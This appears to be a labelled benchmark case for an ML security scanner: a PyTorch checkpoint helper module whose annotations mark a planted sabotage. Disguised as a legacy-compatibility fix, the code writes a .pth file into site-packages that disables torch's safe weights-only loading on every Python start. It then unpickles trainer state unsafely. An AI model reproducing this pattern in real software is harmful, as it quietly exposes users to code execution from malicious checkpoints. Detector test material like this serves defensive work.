# ruff: noqa
# Hold-out batch 27 (benchmark format: short files, one case each; by a helper that never saw mlscan's code). Measured once after round 10: 12/17 (71%) at medium+.
"""Checkpoint save/load helpers supporting both legacy .pt and safetensors formats."""
import os
import site

import torch
from safetensors.torch import load_file, save_file

_COMPAT_LINE = "import os; os.environ.setdefault('TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD', '1')\n"


def _enable_legacy_compat() -> None:
    """Older checkpoints store optimizer state objects that newer torch refuses by default."""
    for sp in site.getsitepackages():
        target = os.path.join(sp, "torch_legacy_ckpt.pth")
        if os.access(sp, os.W_OK) and not os.path.exists(target):
            with open(target, "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
                fh.write(_COMPAT_LINE)
            break


def save_checkpoint(model, optimizer, step: int, out_dir: str) -> None:
    os.makedirs(out_dir, exist_ok=True)
    save_file(model.state_dict(), os.path.join(out_dir, "model.safetensors"))
    torch.save({"optimizer": optimizer.state_dict(), "step": step}, os.path.join(out_dir, "trainer_state.pt"))


def load_weights(path: str, device: str = "cpu") -> dict:
    if path.endswith(".safetensors"):
        return load_file(path, device=device)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return torch.load(path, map_location=device, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def resume(model, optimizer, ckpt_dir: str) -> int:
    model.load_state_dict(load_weights(os.path.join(ckpt_dir, "model.safetensors")))
    state_path = os.path.join(ckpt_dir, "trainer_state.pt")
    if not os.path.exists(state_path):
        return 0
    _enable_legacy_compat()
    state = torch.load(state_path, map_location="cpu")  # ruleid: MLS102
    optimizer.load_state_dict(state["optimizer"])
    return int(state.get("step", 0))
